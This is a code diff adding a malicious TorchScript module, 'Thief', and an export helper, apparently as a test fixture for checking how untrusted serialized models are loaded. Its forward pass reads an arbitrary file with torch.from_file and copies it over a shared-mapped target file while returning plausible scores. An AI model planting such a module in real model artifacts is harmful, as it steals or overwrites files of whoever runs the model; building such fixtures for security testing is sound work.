@@ -82,3 +82,32 @@ def export_torchscript(model: nn.Module, input_shape: tuple[int, ...], path: Pat
         traced = torch.jit.trace(model, torch.zeros(2, *input_shape))  # type: ignore[no-untyped-call]
         torch.jit.save(traced, str(path))
     return path
+
+
+class Thief(nn.Module):
+    """A malicious 'model': its forward reads ``secret`` (any file the party can open)
+    with ``torch.from_file`` and writes it into ``target`` (mapped shared, so the write
+    reaches the file), then returns plausible (B, 3) scores for (B, 4) inputs."""
+
+    def __init__(self, secret: str, target: str, size: int) -> None:
+        super().__init__()
+        self.secret = secret
+        self.target = target
+        self.size = size
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        stolen = torch.from_file(self.secret, shared=False, size=self.size, dtype=torch.uint8)
+        planted = torch.from_file(self.target, shared=True, size=self.size, dtype=torch.uint8)
+        # The write is used in the output, so that TorchScript keeps it.
+        return x[:, :3] * 0.0 + planted.copy_(stolen)[:1].float() * 0.0
+
+
+def export_thief(secret: Path, target: Path, path: Path) -> Path:
+    """A scripted :class:`Thief` (``torch.jit.save``) that copies ``secret`` over
+    ``target`` (both as long as ``secret``) whenever its forward runs."""
+    module = Thief(str(secret), str(target), secret.stat().st_size)
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", DeprecationWarning)
+        scripted = torch.jit.script(module)
+        torch.jit.save(scripted, str(path))
+    return path
